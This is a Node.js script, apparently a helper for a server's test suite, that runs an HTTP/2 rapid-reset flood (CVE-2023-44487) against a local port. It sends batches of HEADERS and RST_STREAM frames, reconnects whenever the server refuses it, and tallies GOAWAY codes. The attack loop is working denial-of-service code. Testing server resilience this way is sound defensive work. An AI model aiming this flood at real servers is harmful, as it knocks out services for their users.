// An HTTP/2 rapid-reset attacker (CVE-2023-44487), a process of its own so that its loop does not
// slow the test's own clients: `node rapidReset.mjs <port> <path> <connections> <seconds>`.
// Each connection writes the preface, then HEADERS and RST_STREAM (CANCEL) for new streams, 100
// of each a write, as fast as the socket takes them; a connection that the server closes or sends
// GOAWAY is replaced at once. At the end it prints one line of JSON: what it did and what it got.
import { Buffer } from 'node:buffer';
import net from 'node:net';
import { frame, grpcHeaderBlock, PREFACE } from './http2Frames.mjs';

const [port, path, connections, seconds] = process.argv.slice(2);
const BATCH = 100;

const headerBlock = grpcHeaderBlock(path);
const CANCEL = Buffer.from([0, 0, 0, 8]);

const totals = { opened: 0, refused: 0, goaways: 0, streams: 0, goawayCodes: {} };
const deadline = Date.now() + Number(seconds) * 1_000;

function attack() {
  if (Date.now() >= deadline) return Promise.resolve();
  return new Promise((resolve) => {
    const socket = net.connect(Number(port), '127.0.0.1');
    let nextId = 1;
    let settled = false;
    let served = false;
    let pending = Buffer.alloc(0);
    // `byServer`: the server closed it or sent GOAWAY; not when the attack's time is up.
    const done = (byServer = true) => {
      if (settled) return;
      settled = true;
      socket.destroy();
      if (byServer && !served) totals.refused += 1;
      resolve(attack());
    };
    socket.on('error', () => done());
    socket.on('close', () => done());
    socket.on('data', (chunk) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        const type = pending[3];
        if (type === 4) served = true; // the server's SETTINGS: the connection was accepted
        if (type === 7) {
          totals.goaways += 1;
          const code = pending.readUInt32BE(9 + 4);
          totals.goawayCodes[code] = (totals.goawayCodes[code] ?? 0) + 1;
          return done();
        }
        pending = pending.subarray(9 + length);
      }
    });
    const write = () => {
      while (!settled && Date.now() < deadline && nextId < 2 ** 31 - 2 * BATCH) {
        const frames = [];
        for (let i = 0; i < BATCH; i++, nextId += 2) {
          frames.push(frame(1, 0x4, nextId, headerBlock), frame(3, 0, nextId, CANCEL));
        }
        totals.streams += BATCH;
        if (!socket.write(Buffer.concat(frames))) return socket.once('drain', write);
      }
      if (!settled && Date.now() >= deadline) done(false);
    };
    socket.once('connect', () => {
      totals.opened += 1;
      socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
      write();
    });
  });
}

await Promise.all(Array.from({ length: Number(connections) }, attack));
process.stdout.write(`${JSON.stringify(totals)}\n`);
